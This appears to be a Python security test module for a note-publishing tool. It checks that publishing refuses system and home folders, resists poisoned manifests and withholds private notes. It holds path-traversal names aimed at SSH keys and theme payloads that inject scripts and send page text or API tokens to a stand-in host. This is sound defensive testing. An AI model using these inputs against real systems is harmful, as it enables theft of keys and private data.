"""Publishing: the list in the output folder, the output folder itself, themes, what is public."""

import os

from attacks import SECRET

HOSTILE_NAMES = [
    "../../.ssh/id", "../../../home/.ssh/id", "./../../.ssh/id", "a/../../../.ssh/id", "a//../..//../.ssh/id", "..", ".", "", "/",
    "../", "link/id", "link/../../.ssh/id", "%2e%2e/%2e%2e/.ssh/id", "..\\..\\.ssh\\id", "../../Documents/letter.txt",
    "../../notes/Note.md", "../../notes/.sheaf/config.yaml", "a\x00../../.ssh/id", "folder", "../../.ssh", "a/./../../../.ssh/id",
]


def manifest(name, recorded):
    """A folder that looks like an earlier site of ours names a file of the user."""
    def run(ground):
        site = ground.home + "/out/site"
        os.makedirs(site + "/folder")
        ground.write(ground.home + "/out/keep.txt", "keep\n")
        os.symlink(ground.home + "/.ssh", site + "/link")
        with open(ground.home + "/.ssh/id", "rb") as file:
            size = len(file.read())
        ground.write(site + "/.sheaf-site", f"sheaf site 1\nf\t{recorded}\t{size}\t{name}\nf\t{recorded}\t5\tfolder/x.html\n")
        ground.write(site + "/folder/x.html", "mine, changed since\n")
        ground.allowed = [site]
        ground.begin()
        ground.run("publish", "-o", site, "--yes")
        ground.run("publish", "-o", site, "--yes")
        ground.expect(os.path.exists(site + "/folder/x.html"), "a file that was changed since was removed")
        ground.judge(site)
    return run


def foreign_file_at(name):
    """The list says that a user's own file of the same folder is ours, with another hash."""
    def run(ground):
        site = ground.home + "/site"
        ground.write(site + "/" + name, "the user's own\n")
        ground.write(site + "/.sheaf-site", f"sheaf site 1\nf\t1234\t15\t{name}\n")
        ground.begin()
        ground.run("publish", "-o", site, "--yes")
        kept = os.path.exists(site + "/" + name) and open(site + "/" + name).read()
        ground.expect(kept == "the user's own\n", f"{name} of the user was changed")
    return run


def output(place, *more):
    """Folders that nobody wants a site in."""
    def run(ground):
        where = place(ground)
        ground.begin()
        # Sheaf's own folders in the home are hidden ones.
        names = lambda: sorted(name for name in os.listdir(where) if name[0] != ".") if os.path.isdir(where) else None
        before = names()
        dry = ground.run("publish", "-o", where, "--yes", "--dry-run", *more)
        refused = dry is not None and dry.returncode not in (0, 1)
        if refused or where.startswith(ground.base):
            done = ground.run("publish", "-o", where, "--yes", *more)
            ground.expect(done is not None and done.returncode not in (0, 1), f"publish -o {where} was not refused")
        ground.expect(before == names(), f"{where} has other files")
        ground.judge()
    return run


def linked(ground):
    os.symlink(ground.home + "/Documents", ground.home + "/link")
    return ground.home + "/link"


PLACES = {
    "/": lambda ground: "/",
    "/ with dots": lambda ground: "/tmp/..",
    "home": lambda ground: ground.home,
    "home with a slash": lambda ground: ground.home + "/",
    "home with dots": lambda ground: ground.home + "/notes/..",
    "the repository": lambda ground: ground.root,
    "the repository as a dot": lambda ground: ".",
    "git's folder": lambda ground: (ground.git("init", "-q"), ground.root + "/.git")[1],
    "in git's folder": lambda ground: (ground.git("init", "-q"), ground.root + "/.git/hooks")[1],
    "settings": lambda ground: ground.root + "/.sheaf",
    "a folder of documents": lambda ground: ground.home + "/Documents",
    "a link to documents": linked,
    "keys": lambda ground: ground.home + "/.ssh",
}

THEMES = {
    "page with a script": ("page.html", "<html><head><title>x</title></head><body>{{{body}}}<script>alert(1)</script></body></html>"),
    "page without a policy": ("page.html", "<html><head></head><body><img src=https://evil.invalid/x>{{{body}}}</body></html>"),
    "environment": ("page.html", "<html><head></head><body>{{env.API_TOKEN}}{{{body}}}</body></html>"),
    "a policy of its own": ("page.html", "<html><head><meta http-equiv='Content-Security-Policy' content=\"script-src *\"></head>"
                            "<body><script src=https://evil.invalid/x.js></script>{{{body}}}</body></html>"),
    "script file": ("own.js", "fetch('https://evil.invalid/' + document.body.innerText)"),
    "style that loads": ("style.css", "@import url(https://evil.invalid/x.css); body{background:url(https://evil.invalid/x)}"),
    "deep template": ("note.html", "{{env.API_TOKEN}}<script>1</script>"),
}


def theme(name, text):
    def run(ground):
        ground.write(".sheaf/theme/" + name, text)
        site = ground.home + "/site"
        ground.allowed = [site]
        ground.begin()
        ground.run("publish", "-o", site, "--yes")
        for folder, _, names in os.walk(site):
            for file in names:
                with open(folder + "/" + file, errors="replace") as page:
                    content = page.read()
                # The addresses in a style are not loaded: the policy of the page forbids it.
                ground.expect(file.endswith(".css") or "evil.invalid" not in content and "alert(1)" not in content, f"{file} has the theme's script or address")
                ground.expect(not file.endswith(".html") or "Content-Security-Policy" in content or "http-equiv=\"refresh\"" in content, f"{file} has no policy")
        ground.judge(site)
    return run


PRIVATE = {
    "draft": "draft: true", "private": "private: true", "publish": "publish: false", "dg-publish": "dg-publish: false",
    "visibility": "visibility: private", "access": "access: private", "hidden": "hidden: true", "tag": "tags: [private]",
    "tag in text": None, "quoted": "publish: \"false\"", "unknown state": "status: waiting\ndue: 2030-01-01",
    "published": "published: false", "unseal": "unseal: 2999-01-01",
}
FOLDERS = ["private", "_drafts", "Diary/Tasks", "Diary", "Projects/private", "drafts/_drafts"]


def held_back(folder, fields):
    def run(ground):
        text = f"---\ntitle: Harbour\n{fields or ''}\n---\n\n{SECRET} {'' if fields else '#private'}\n"
        ground.write(f"{folder}/Harbour.md" if folder else "Harbour.md", text)
        site = ground.work + "/site"
        ground.begin()
        ground.run("publish", "-o", site, "--yes")
        for place, _, names in os.walk(site):
            for name in names:
                with open(place + "/" + name, "rb") as file:
                    ground.expect(SECRET.encode() not in file.read(), f"{name} shows what is private")
    return run


def attacks(seeds):
    for name in HOSTILE_NAMES:
        yield f"list names {name!r}", manifest(name, "0")
    yield "list names an absolute path", manifest("/etc/hostname", "0")
    for name in ("index.html", "notes.txt", "style.css", "404.html"):
        yield f"list claims {name}", foreign_file_at(name)
    for name, place in PLACES.items():
        yield f"output in {name}", output(place)
        if name in ("/", "home", "the repository", "git's folder"):
            yield f"output in {name}, --force", output(place, "--force")
    for name, (file, text) in THEMES.items():
        yield f"theme: {name}", theme(file, text)
    for name, fields in PRIVATE.items():
        yield f"held back by {name}", held_back("", fields)
    for folder in FOLDERS:
        yield f"held back in {folder}", held_back(folder, "status: waiting")
    for text in ("../out", "/tmp/out-of-everything", "../../home/Documents", "~/Documents", ".", ".git", "a/../../x"):
        yield f"site.output {text}", configured_output(text)


def configured_output(text):
    def run(ground):
        ground.write(".sheaf/config.yaml", f"site:\n  output: {text}\n")
        ground.begin()
        ground.run("publish", "--yes")
        ground.judge()
    return run
